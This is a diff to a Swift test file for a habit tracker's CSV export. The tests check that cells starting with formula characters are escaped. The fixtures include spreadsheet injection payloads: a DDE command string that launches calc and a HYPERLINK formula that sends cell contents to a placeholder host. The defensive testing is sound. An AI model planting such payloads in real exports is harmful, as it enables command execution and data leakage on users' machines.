@@ -25,14 +25,15 @@ import Testing
           category: "evil", measure: .quantity(target: Amount(1), unit: "+kg"), startDay: start,
           order: 0)))
     try perform(
-      .addHabit(Habit(id: "tab", title: "\tTabbed", category: "health", startDay: start, order: 1)))
+      .addHabit(
+        Habit(id: "pushups", title: "+Push-ups", category: "health", startDay: start, order: 1)))
     try perform(
       .setEntry(
         "weight",
         Entry(day: start, value: Amount(thousandths: 2500), note: "-2+3*cmd|' /C calc'!A0")))
-    try perform(.setEntry("tab", Entry(day: start, value: .one, note: "\rreturn")))
+    try perform(.setEntry("pushups", Entry(day: start, value: .one, note: "@home")))
     try perform(
-      .setEntry("tab", Entry(day: Day(iso: "2025-03-02")!, value: .one, note: "plain - dash")))
+      .setEntry("pushups", Entry(day: Day(iso: "2025-03-02")!, value: .one, note: "plain - dash")))
     return replica.tracker
   }
 
@@ -42,8 +43,8 @@ import Testing
       text == "Date,Habit,Category,Value,Unit,Skipped,Mark,Note\r\n"
         + "2025-03-01,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\",'@SUM(A1:A9),"
         + "2.5,'+kg,,,'-2+3*cmd|' /C calc'!A0\r\n"
-        + "2025-03-01,'\tTabbed,Health,1,,,,\"'\rreturn\"\r\n"
-        + "2025-03-02,'\tTabbed,Health,1,,,,plain - dash\r\n")
+        + "2025-03-01,'+Push-ups,Health,1,,,,'@home\r\n"
+        + "2025-03-02,'+Push-ups,Health,1,,,,plain - dash\r\n")
   }
 
   @Test(arguments: ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
